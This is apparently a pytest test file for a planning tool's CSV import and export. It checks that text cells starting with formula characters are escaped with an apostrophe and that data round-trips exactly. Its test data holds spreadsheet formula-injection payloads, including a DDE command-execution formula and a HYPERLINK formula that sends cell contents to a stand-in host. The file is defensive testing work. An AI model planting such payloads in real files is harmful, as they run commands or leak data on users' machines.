"""An export cannot run formulas in a spreadsheet, and export then import gives back what was exported.

A text cell starting with = + - @ tab or carriage return is written with a leading apostrophe
(OWASP's advice for CSV); plain numbers such as -1200.00 are data and are written as they are.
There is no XLSX export.
"""

from __future__ import annotations

import csv
import shutil
from dataclasses import replace

import pytest

from trustplanner.io.cells import escape_formula, unescape_formula

HEADER = ["ref", "title", "workstream", "stage", "owner", "baseline", "commentary"]
#: text typed into a file -> what the plan stores -> how the export writes it
HOSTILE = [
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://example.invalid/?"&A1,"Click")', '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
     '\'=HYPERLINK("http://example.invalid/?"&A1,"Click")'),
    ("-5 days", "-5 days", "'-5 days"),
    ("+44 20 7946 0000", "+44 20 7946 0000", "'+44 20 7946 0000"),
    ("@SUM(A1)", "@SUM(A1)", "'@SUM(A1)"),
    ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("'=typed as Excel shows text", "=typed as Excel shows text", "'=typed as Excel shows text"),
    ("''=two apostrophes", "'=two apostrophes", "''=two apostrophes"),
    ("'plain", "'plain", "'plain"),
    ("-5", "-5", "-5"),  # a plain number: Excel reads it as -5, never as a formula
]
COMMENTARY = "\tindented\n\r=not a formula"


def exported_cells(folder, name="milestones.csv") -> list[list[str]]:
    with (folder / name).open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def hostile_plan(cli, sample_plan, write_csv):
    rows = [[f"X{n}", typed, "Finance", "shadow", typed, "2017-03-01", typed]
            for n, (typed, _, _) in enumerate(HOSTILE, start=1)]
    path = write_csv("hostile.csv", [HEADER, *rows])
    result = cli("import", sample_plan, "milestones", path)
    assert result.rc == 0, result.err
    return sample_plan


def test_every_text_cell_that_starts_like_a_formula_is_written_with_an_apostrophe(cli, hostile_plan, tmp_path):
    assert cli("export", hostile_plan, tmp_path / "out").rc == 0
    rows = {row[0]: row for row in exported_cells(tmp_path / "out")[1:]}
    for n, (_, _, written) in enumerate(HOSTILE, start=1):
        title, owner, commentary = rows[f"X{n}"][1], rows[f"X{n}"][5], rows[f"X{n}"][11]
        assert title == owner == commentary == written
    for row in exported_cells(tmp_path / "out")[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-5", cell


def test_what_was_imported_is_what_is_stored(hostile_plan):
    from trustplanner.services.snapshot import load_snapshot
    from trustplanner.store.plan_file import open_plan_file

    with open_plan_file(hostile_plan) as plan:
        stored = {m.ref: (m.title, m.owner, m.commentary) for m in load_snapshot(plan).milestones}
    for n, (_, kept, _) in enumerate(HOSTILE, start=1):
        assert stored[f"X{n}"] == (kept, kept, kept)


def test_export_then_import_then_export_is_byte_identical(cli, hostile_plan, make_plan, tmp_path):
    assert cli("export", hostile_plan, tmp_path / "a").rc == 0
    again = make_plan("again.tplan")
    assert cli("import", again, "milestones", tmp_path / "a" / "milestones.csv").rc == 0
    assert cli("export", again, tmp_path / "b").rc == 0
    for name in ("services.csv", "milestones.csv"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


def test_a_commentary_typed_in_the_app_starting_with_a_tab_round_trips(cli, hostile_plan, make_plan, tmp_path):
    from trustplanner.services.milestones import update_milestone
    from trustplanner.services.snapshot import load_snapshot
    from trustplanner.store.plan_file import open_plan_file

    with open_plan_file(hostile_plan) as plan:
        m5 = load_snapshot(plan).milestone("M5")
        update_milestone(plan, "M5", replace(m5, commentary=COMMENTARY))
    assert cli("export", hostile_plan, tmp_path / "a").rc == 0
    [m5_row] = [row for row in exported_cells(tmp_path / "a") if row[0] == "M5"]
    assert m5_row[11] == "'" + COMMENTARY
    again = make_plan("again.tplan")
    assert cli("import", again, "milestones", tmp_path / "a" / "milestones.csv").rc == 0
    with open_plan_file(again) as plan:
        assert load_snapshot(plan).milestone("M5").commentary == COMMENTARY


def test_negative_amounts_stay_numbers_and_round_trip(cli, demo_file, tmp_path, write_csv):
    plan = tmp_path / "demo.tplan"
    shutil.copyfile(demo_file, plan)
    path = write_csv("budget.csv", [["service", "year", "cost_centre", "description", "budget", "forecast"],
                                    ["Children's social care", "2016/17", "SC-INCOME", "-Grant income", "-1200.00",
                                     "-1150.50"]])
    assert cli("import", plan, "budget", path).rc == 0
    assert cli("export", plan, tmp_path / "a").rc == 0
    [line] = [row for row in exported_cells(tmp_path / "a", "budget.csv") if row[2] == "SC-INCOME"]
    assert line[3:6] == ["'-Grant income", "-1200.00", "-1150.50"]
    assert cli("import", plan, "budget", tmp_path / "a" / "budget.csv").rc == 0
    assert cli("export", plan, tmp_path / "b").rc == 0
    assert (tmp_path / "a" / "budget.csv").read_bytes() == (tmp_path / "b" / "budget.csv").read_bytes()


@pytest.mark.parametrize("text", [*(kept for _, kept, _ in HOSTILE), COMMENTARY, "", "'", "''", "plain", "-1200.00",
                                  "\tx", "\r", "=", "'-", "'''@x", "5-3"])
def test_unescaping_an_escaped_cell_gives_it_back(text):
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize(("cell", "read"), [("'=SUM(A1)", "=SUM(A1)"), ("'plain", "'plain"), ("'5", "'5"),
                                            ("''=x", "'=x"), ("'", "'"), ("'-5", "-5")])
def test_an_import_drops_one_apostrophe_before_a_formula_character_only(cell, read):
    assert unescape_formula(cell) == read
